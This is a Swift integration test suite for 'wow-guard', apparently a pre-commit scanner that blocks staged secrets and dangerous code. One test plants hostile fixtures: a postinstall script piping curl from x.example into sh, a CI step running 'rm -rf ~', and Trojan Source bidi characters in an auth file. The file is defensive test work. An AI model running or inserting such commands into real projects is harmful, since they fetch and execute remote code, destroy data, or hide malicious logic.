import Foundation
import XCTest
import WowGuardCore

/// End-to-end: the real `git` binary runs the installed hook, which runs the built `wow-guard`.
final class GitIntegrationTests: XCTestCase {
    func token() -> String { TestSecrets.githubToken() }

    func testCommitOfStagedSecretIsRejectedWithTheReport() throws {
        let repo = try GitRepo()
        try repo.installHook()
        let t = token()
        try repo.write("app/config.py", "import os\n\nTOKEN = \"\(t)\"\n")
        try repo.git("add", ".")
        let r = try repo.tryGit("commit", "-q", "-m", "add config")
        XCTAssertNotEqual(r.status, 0)
        XCTAssertTrue(r.stderr.contains("app/config.py:3"), r.stderr)
        XCTAssertTrue(r.stderr.contains("github-token"), r.stderr)
        XCTAssertTrue(r.stderr.contains("wow-guard allow github-token:"), r.stderr)
        XCTAssertTrue(r.stderr.contains("wow-guard:allow"), r.stderr)
        XCTAssertFalse(r.stderr.contains(t), "the secret itself is never printed")
        XCTAssertEqual(try repo.headCount(), 0)
    }

    func testCleanCommitIsSilentAndAllowlistedFixtureIsAccepted() throws {
        let repo = try GitRepo()
        try repo.installHook()
        try repo.write("README.md", "# demo\n")
        try repo.git("add", ".")
        let clean = try repo.tryGit("commit", "-q", "-m", "readme")
        XCTAssertEqual(clean.status, 0, clean.stderr)
        XCTAssertEqual(clean.stderr, "", "a clean commit is silent")
        try repo.write(".wow-guard.toml", "[allowlist]\npaths = [\"tests/fixtures/**\"]\n")
        try repo.write("tests/fixtures/tokens.txt", "token=\(token())\n")
        try repo.git("add", ".")
        let r = try repo.tryGit("commit", "-q", "-m", "fixture")
        XCTAssertEqual(r.status, 0, r.stderr)
        XCTAssertEqual(try repo.headCount(), 2)
    }

    func testInlineMarkerAndAllowCommand() throws {
        let repo = try GitRepo()
        try repo.installHook()
        try repo.write("a.env", "A=\(token())  # wow-guard:allow\n")
        try repo.git("add", ".")
        XCTAssertEqual(try repo.tryGit("commit", "-q", "-m", "a").status, 0)
        let t = token()
        try repo.write("b.env", "B=\(t)\n")
        try repo.git("add", ".")
        XCTAssertNotEqual(try repo.tryGit("commit", "-q", "-m", "b").status, 0)
        let allow = try repo.guardRun("allow", Fingerprint.make(ruleID: "github-token", secret: t))
        XCTAssertEqual(allow.status, 0, allow.stderr)
        try repo.git("add", ".")
        let r = try repo.tryGit("commit", "-q", "-m", "b")
        XCTAssertEqual(r.status, 0, r.stderr)
        let config = try String(contentsOf: repo.url.appendingPathComponent(".wow-guard.toml"), encoding: .utf8)
        XCTAssertTrue(config.contains("fingerprints = [\"github-token:"), config)
        // A second allow of another fingerprint keeps the first.
        XCTAssertEqual(try repo.guardRun("allow", "generic-secret:0123456789abcdef").status, 0)
        let config2 = try String(contentsOf: repo.url.appendingPathComponent(".wow-guard.toml"), encoding: .utf8)
        XCTAssertTrue(config2.contains("generic-secret:0123456789abcdef") && config2.contains("github-token:"), config2)
        XCTAssertEqual(try repo.guardRun("allow", "not-a-fingerprint").status, 2)
    }

    func testCommitAllAndCommitPathUseTheIndexGitIsCommitting() throws {
        let repo = try GitRepo()
        try repo.write("a.txt", "hello\n")
        try repo.write("b.txt", "world\n")
        try repo.git("add", ".")
        try repo.git("commit", "-q", "-m", "init")
        try repo.installHook()

        // Secret only in the working tree: `commit -a` stages it -> rejected.
        try repo.write("a.txt", "hello\ntoken=\(token())\n")
        XCTAssertNotEqual(try repo.tryGit("commit", "-q", "-a", "-m", "all").status, 0)
        // `commit a.txt` commits the working tree version of a.txt -> rejected.
        XCTAssertNotEqual(try repo.tryGit("commit", "-q", "-m", "path", "a.txt").status, 0)
        // Plain commit of another staged file: the secret is not staged -> accepted.
        try repo.write("b.txt", "world\nmore\n")
        try repo.git("add", "b.txt")
        let plain = try repo.tryGit("commit", "-q", "-m", "b only")
        XCTAssertEqual(plain.status, 0, plain.stderr)

        // Secret only in the index (working tree cleaned): a plain commit is rejected ...
        try repo.git("add", "a.txt")
        try repo.write("a.txt", "hello\n")
        XCTAssertNotEqual(try repo.tryGit("commit", "-q", "-m", "index").status, 0)
        // ... but `commit b.txt` records only b.txt's working tree: accepted.
        try repo.write("b.txt", "world\nmore\nagain\n")
        let path = try repo.tryGit("commit", "-q", "-m", "b path", "b.txt")
        XCTAssertEqual(path.status, 0, path.stderr)
        XCTAssertEqual(try repo.headCount(), 3)
    }

    func testRenamesDeletionsAndModeChangesAddNothing() throws {
        let repo = try GitRepo()
        try repo.write("old name.txt", "line\ntoken=\(token())\nend\n")
        try repo.write("other.txt", "token=\(token())\n")
        try repo.write("script.sh", "echo hi\n")
        try repo.git("add", ".")
        try repo.git("commit", "-q", "--no-verify", "-m", "legacy")
        try repo.installHook()
        try repo.git("mv", "old name.txt", "new name.txt")
        try repo.git("rm", "-q", "other.txt")
        try repo.git("update-index", "--chmod=+x", "script.sh")
        let r = try repo.tryGit("commit", "-q", "-m", "rename, delete, chmod")
        XCTAssertEqual(r.status, 0, r.stderr)
        // A rename with a new secret line: only that line is reported.
        try repo.git("mv", "new name.txt", "renamed again.txt")
        try repo.write("renamed again.txt", "line\ntoken=\(try String(contentsOf: repo.url.appendingPathComponent("renamed again.txt"), encoding: .utf8).split(separator: "\n")[1].dropFirst(6))\nend\nsecret=\(token())\n")
        try repo.git("add", ".")
        let r2 = try repo.tryGit("commit", "-q", "-m", "rename plus")
        XCTAssertNotEqual(r2.status, 0)
        XCTAssertTrue(r2.stderr.contains("renamed again.txt:4"), r2.stderr)
        XCTAssertFalse(r2.stderr.contains("renamed again.txt:2"), r2.stderr)
    }

    func testBinarySymlinkAndSubmoduleAreSkipped() throws {
        let repo = try GitRepo()
        try repo.installHook()
        try repo.write(".gitattributes", "*.dat binary\n")
        try repo.write("blob.dat", "token=\(token())\n")
        try repo.write("nul.bin", bytes: [0, 0, 1] + Array("token=\(token())\n".utf8))
        try FileManager.default.createSymbolicLink(atPath: repo.url.appendingPathComponent("link").path, withDestinationPath: "ghp_" + String(repeating: "a1", count: 18))
        // A submodule entry (gitlink) added directly to the index.
        try repo.git("update-index", "--add", "--cacheinfo", "160000,\(String(repeating: "ab", count: 20)),vendor/sub")
        try repo.git("add", ".")
        let r = try repo.tryGit("commit", "-q", "-m", "binaries")
        XCTAssertEqual(r.status, 0, r.stderr)
    }

    func testMultiLinePrivateKeyCRLFLongLinesAndInvalidUTF8() throws {
        let repo = try GitRepo()
        try repo.installHook()
        let body = (0..<6).map { _ in TestSecrets.random(64, Synthetic.base64) }.joined(separator: "\n")
        try repo.write("deploy/key.pem", "-----BEGIN OPENSSH PRIVATE KEY-----\n\(body)\n-----END OPENSSH PRIVATE KEY-----\n")
        try repo.git("add", ".")
        let r = try repo.tryGit("commit", "-q", "-m", "key")
        XCTAssertNotEqual(r.status, 0)
        XCTAssertTrue(r.stderr.contains("deploy/key.pem:1") && r.stderr.contains("private-key"), r.stderr)
        try repo.git("rm", "-q", "--cached", "deploy/key.pem")

        try repo.write("win.ini", "[a]\r\nx=1\r\npassword=\(TestSecrets.random(18))7\r\n")
        try repo.git("add", "win.ini")
        let crlf = try repo.tryGit("commit", "-q", "-m", "crlf")
        XCTAssertTrue(crlf.stderr.contains("win.ini:3"), crlf.stderr)
        try repo.git("rm", "-q", "--cached", "win.ini")

        try repo.write("min.js", String(repeating: "var a=1;", count: 200_000) + "t=\"\(token())\";\n")
        try repo.write("latin1.txt", bytes: [0xE9, 0xFF, 0x0A] + Array("token=\(token())\n".utf8))
        try repo.git("add", "min.js", "latin1.txt")
        let long = try repo.tryGit("commit", "-q", "-m", "long")
        XCTAssertTrue(long.stderr.contains("min.js:1") && long.stderr.contains("latin1.txt:2"), long.stderr)
    }

    func testWorktreesSubdirectoriesSpacesAndNonASCIINames() throws {
        let repo = try GitRepo()
        try repo.write("README.md", "x\n")
        try repo.git("add", ".")
        try repo.git("commit", "-q", "-m", "init")
        try repo.installHook()
        // From a subdirectory.
        try repo.write("src/deep/dir/ä ö.txt", "token=\(token())\n")
        try repo.git("add", ".")
        let sub = repo.url.appendingPathComponent("src/deep")
        let r = try repo.tryGit("commit", "-q", "-m", "sub", cwd: sub)
        XCTAssertNotEqual(r.status, 0)
        XCTAssertTrue(r.stderr.contains("src/deep/dir/ä ö.txt:1"), r.stderr)
        let staged = try repo.guardRun("scan", "--staged", "--format", "json", cwd: sub)
        XCTAssertEqual(staged.status, 1)
        XCTAssertTrue(staged.stdout.contains("\"path\":\"src/deep/dir/ä ö.txt\""), staged.stdout)
        try repo.git("reset", "-q")

        // A linked worktree shares the hooks of the main repository.
        let wt = repo.dir.url.appendingPathComponent("wt")
        try repo.git("worktree", "add", "-q", wt.path, "-b", "feature")
        try Data("token=\(token())\n".utf8).write(to: wt.appendingPathComponent("leak.txt"))
        try repo.git("add", "leak.txt", cwd: wt)
        let w = try repo.tryGit("commit", "-q", "-m", "wt", cwd: wt)
        XCTAssertNotEqual(w.status, 0)
        XCTAssertTrue(w.stderr.contains("leak.txt:1"), w.stderr)

        // git --work-tree=… --git-dir=… commit from elsewhere.
        try repo.write("other.txt", "token=\(token())\n")
        let elsewhere = repo.dir.url
        let gw = try repo.tryGit("--git-dir=\(repo.url.path)/.git", "--work-tree=\(repo.url.path)", "add", "other.txt", cwd: elsewhere)
        XCTAssertEqual(gw.status, 0, gw.stderr)
        let gc = try repo.tryGit("--git-dir=\(repo.url.path)/.git", "--work-tree=\(repo.url.path)", "commit", "-q", "-m", "x", cwd: elsewhere)
        XCTAssertNotEqual(gc.status, 0)
        XCTAssertTrue(gc.stderr.contains("other.txt:1"), gc.stderr)
    }

    func testMergeInProgress() throws {
        let repo = try GitRepo()
        try repo.write("f.txt", "base\n")
        try repo.git("add", ".")
        try repo.git("commit", "-q", "-m", "base")
        try repo.git("checkout", "-q", "-b", "side")
        try repo.write("f.txt", "side\n")
        try repo.git("commit", "-q", "-am", "side")
        try repo.git("checkout", "-q", "main")
        try repo.write("f.txt", "main\n")
        try repo.git("commit", "-q", "-am", "main")
        try repo.installHook()
        _ = try repo.tryGit("merge", "-q", "side")  // conflict
        try repo.write("f.txt", "resolved\ntoken=\(token())\n")
        try repo.git("add", "f.txt")
        let r = try repo.tryGit("commit", "-q", "--no-edit")
        XCTAssertNotEqual(r.status, 0)
        XCTAssertTrue(r.stderr.contains("f.txt:2"), r.stderr)
        try repo.write("f.txt", "resolved\n")
        try repo.git("add", "f.txt")
        let ok = try repo.tryGit("commit", "-q", "--no-edit")
        XCTAssertEqual(ok.status, 0, ok.stderr)
    }

    func testHookChainingIdempotenceUninstallAndHooksPath() throws {
        let repo = try GitRepo()
        let hooks = repo.url.appendingPathComponent(".git/hooks")
        try FileManager.default.createDirectory(at: hooks, withIntermediateDirectories: true)
        let previous = "#!/bin/sh\necho previous-ran >> \"$(git rev-parse --git-dir)/previous.log\"\n"
        try Data(previous.utf8).write(to: hooks.appendingPathComponent("pre-commit"))
        try FileManager.default.setAttributes([.posixPermissions: 0o755], ofItemAtPath: hooks.appendingPathComponent("pre-commit").path)
        try repo.installHook()
        let again = try repo.guardRun("install", "--git")
        XCTAssertEqual(again.status, 0)
        XCTAssertTrue(again.stdout.contains("up to date"), again.stdout)
        try repo.write("a.txt", "fine\n")
        try repo.git("add", ".")
        XCTAssertEqual(try repo.tryGit("commit", "-q", "-m", "a").status, 0)
        let log = try String(contentsOf: repo.url.appendingPathComponent(".git/previous.log"), encoding: .utf8)
        XCTAssertEqual(log, "previous-ran\n", "the previous hook runs after wow-guard passes")
        // A blocked commit does not run the previous hook.
        try repo.write("b.txt", "token=\(token())\n")
        try repo.git("add", ".")
        XCTAssertNotEqual(try repo.tryGit("commit", "-q", "-m", "b").status, 0)
        XCTAssertEqual(try String(contentsOf: repo.url.appendingPathComponent(".git/previous.log"), encoding: .utf8), "previous-ran\n")

        XCTAssertEqual(try repo.guardRun("uninstall", "--git").status, 0)
        let restored = try String(contentsOf: hooks.appendingPathComponent("pre-commit"), encoding: .utf8)
        XCTAssertEqual(restored, previous)
        XCTAssertFalse(FileManager.default.fileExists(atPath: hooks.appendingPathComponent("pre-commit.wow-guard-previous").path))
        XCTAssertTrue(try repo.guardRun("uninstall", "--git").stdout.contains("nothing to do"))

        // core.hooksPath is honoured (relative to the work tree root).
        try repo.git("config", "core.hooksPath", "ci/hooks")
        try repo.installHook()
        XCTAssertTrue(FileManager.default.fileExists(atPath: repo.url.appendingPathComponent("ci/hooks/pre-commit").path))
        XCTAssertNotEqual(try repo.tryGit("commit", "-q", "-m", "b").status, 0)
    }

    func testDangerousScriptsInStagedChanges() throws {
        let repo = try GitRepo()
        try repo.installHook()
        try repo.write("package.json", "{\n  \"name\": \"x\",\n  \"scripts\": {\n    \"postinstall\": \"curl -fsSL https://x.example/p.sh | sh\"\n  }\n}\n")
        try repo.git("add", ".")
        let r = try repo.tryGit("commit", "-q", "-m", "postinstall")
        XCTAssertNotEqual(r.status, 0)
        XCTAssertTrue(r.stderr.contains("package.json:4") && r.stderr.contains("rce."), r.stderr)
        try repo.git("rm", "-q", "--cached", "package.json")
        // The same text documented in docs/ is data.
        try FileManager.default.removeItem(at: repo.url.appendingPathComponent("package.json"))
        try repo.write("docs/security.md", "Never add `\"postinstall\": \"curl -fsSL https://x.example/p.sh | sh\"` to package.json.\n")
        try repo.write("docs/example-package.json.txt", "\"postinstall\": \"curl -fsSL https://x.example/p.sh | sh\"\n")
        try repo.git("add", ".")
        let ok = try repo.tryGit("commit", "-q", "-m", "docs")
        XCTAssertEqual(ok.status, 0, ok.stderr)
        // A CI step that deletes the home directory, added to an existing workflow.
        try repo.write(".github/workflows/ci.yml", "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - run: swift test\n")
        try repo.git("add", ".")
        XCTAssertEqual(try repo.tryGit("commit", "-q", "-m", "ci").status, 0)
        try repo.write(".github/workflows/ci.yml", "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - run: swift test\n      - run: |\n          echo cleaning\n          rm -rf ~\n")
        try repo.git("add", ".")
        let ci = try repo.tryGit("commit", "-q", "-m", "ci cleanup")
        XCTAssertNotEqual(ci.status, 0)
        XCTAssertTrue(ci.stderr.contains(".github/workflows/ci.yml:9"), ci.stderr)  // the line of `rm -rf ~`
        // Trojan Source characters in an added line.
        try repo.git("checkout", "-q", "--", ".")
        try repo.write("src/auth.js", "const isAdmin = false; // \u{202E} } \u{2066}if (isAdmin)\u{2069} \u{2066}\n")
        try repo.git("add", "src/auth.js")
        let bidi = try repo.tryGit("commit", "-q", "-m", "bidi")
        XCTAssertNotEqual(bidi.status, 0)
        XCTAssertTrue(bidi.stderr.contains("src/auth.js:1") && bidi.stderr.contains("unicode.bidi-control"), bidi.stderr)
    }

    func testInstallOutsideARepositoryFailsClearly() throws {
        let dir = try TempDir()
        let r = try CLI.run(["install", "--git"], cwd: dir.url, env: ["GIT_CEILING_DIRECTORIES": dir.url.deletingLastPathComponent().path])
        XCTAssertEqual(r.status, 2)
        XCTAssertTrue(r.stderr.contains("not a git repository"), r.stderr)
        let p = try CLI.run(["pre-commit"], cwd: dir.url, env: ["GIT_CEILING_DIRECTORIES": dir.url.deletingLastPathComponent().path])
        XCTAssertEqual(p.status, 2)
        XCTAssertTrue(p.stderr.contains("--no-verify"), p.stderr)
    }

    func testHistoryScanReportsCommitAuthorAndDate() throws {
        let repo = try GitRepo()
        try repo.write("a.txt", "start\n")
        try repo.git("add", ".")
        try repo.git("commit", "-q", "-m", "start")
        let base = try repo.git("rev-parse", "HEAD").trimmingCharacters(in: .whitespacesAndNewlines)
        try repo.write("a.txt", "start\ntoken=\(token())\n")
        try repo.git("commit", "-q", "--no-verify", "-am", "leak")
        let leak = try repo.git("rev-parse", "HEAD").trimmingCharacters(in: .whitespacesAndNewlines)
        try repo.write("a.txt", "start\n")
        try repo.git("commit", "-q", "-am", "remove")
        XCTAssertEqual(try repo.guardRun("scan", ".").status, 0, "the tree is clean now")
        let r = try repo.guardRun("scan", "--history", "--format", "json")
        XCTAssertEqual(r.status, 1, r.stderr)
        let f = try XCTUnwrap((try jsonObject(r.stdout)["findings"] as? [[String: Any]])?.first)
        XCTAssertEqual(f["commit"] as? String, leak)
        XCTAssertEqual(f["author"] as? String, "Test Author <author@example.invalid>")
        XCTAssertEqual(f["line"] as? Int, 2)
        XCTAssertNotNil((f["date"] as? String)?.range(of: #"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d[+-]\d\d:\d\d$"#, options: .regularExpression))
        XCTAssertEqual(try repo.guardRun("scan", "--history", "--since", leak).status, 0)
        XCTAssertEqual(try repo.guardRun("scan", "--history", "--since", base).status, 1)
        XCTAssertEqual(try repo.guardRun("scan", "--history", "--since", "no-such-rev").status, 2)
    }

    func testHookScriptFileMatchesTheEmbeddedCopy() throws {
        let source = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent().deletingLastPathComponent()
        let file = try String(contentsOf: source.appendingPathComponent("hooks/pre-commit"), encoding: .utf8)
        let repo = try GitRepo()
        try repo.installHook()
        let installed = try String(contentsOf: repo.url.appendingPathComponent(".git/hooks/pre-commit"), encoding: .utf8)
        XCTAssertEqual(installed, file.replacingOccurrences(of: "@WOW_GUARD_BIN@", with: CLI.binary.resolvingSymlinksInPathCompat))
    }

    /// The pre-commit framework (pip install pre-commit) runs wow-guard through .pre-commit-hooks.yaml.
    func testPreCommitFramework() throws {
        let which = try GitRepo(initialize: false).run("/usr/bin/env", ["python3", "-c", "import pre_commit"])
        guard which.status == 0 else { throw XCTSkip("pre-commit is not installed (make test installs it)") }
        let source = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent().deletingLastPathComponent()
        // A hook repository holding our .pre-commit-hooks.yaml, committed (pre-commit clones it).
        let hookRepo = try GitRepo()
        try hookRepo.write(".pre-commit-hooks.yaml", try String(contentsOf: source.appendingPathComponent(".pre-commit-hooks.yaml"), encoding: .utf8))
        try hookRepo.git("add", ".")
        try hookRepo.git("commit", "-q", "-m", "hooks")
        let rev = try hookRepo.git("rev-parse", "HEAD").trimmingCharacters(in: .whitespacesAndNewlines)

        let repo = try GitRepo()
        try repo.write(".pre-commit-config.yaml", "repos:\n- repo: \(hookRepo.url.path)\n  rev: \(rev)\n  hooks:\n  - id: wow-guard\n")
        try repo.write("ok.txt", "fine\n")
        try repo.git("add", ".")
        let binDir = URL(fileURLWithPath: CLI.binary).deletingLastPathComponent().path
        let env = ["PATH": binDir + ":" + (ProcessInfo.processInfo.environment["PATH"] ?? "/usr/bin:/bin"),
                   "PRE_COMMIT_HOME": repo.home.appendingPathComponent("pre-commit-cache").path]
        let ok = try repo.run("/usr/bin/env", ["python3", "-m", "pre_commit", "run"], extraEnv: env)
        XCTAssertEqual(ok.status, 0, ok.stdout + ok.stderr)
        try repo.write("leak.txt", "token=\(token())\n")
        try repo.git("add", ".")
        let bad = try repo.run("/usr/bin/env", ["python3", "-m", "pre_commit", "run"], extraEnv: env)
        XCTAssertEqual(bad.status, 1, bad.stdout + bad.stderr)
        XCTAssertTrue((bad.stdout + bad.stderr).contains("leak.txt:1"), bad.stdout + bad.stderr)
    }
}

extension String {
    var resolvingSymlinksInPathCompat: String { URL(fileURLWithPath: self).resolvingSymlinksInPath().path }
}
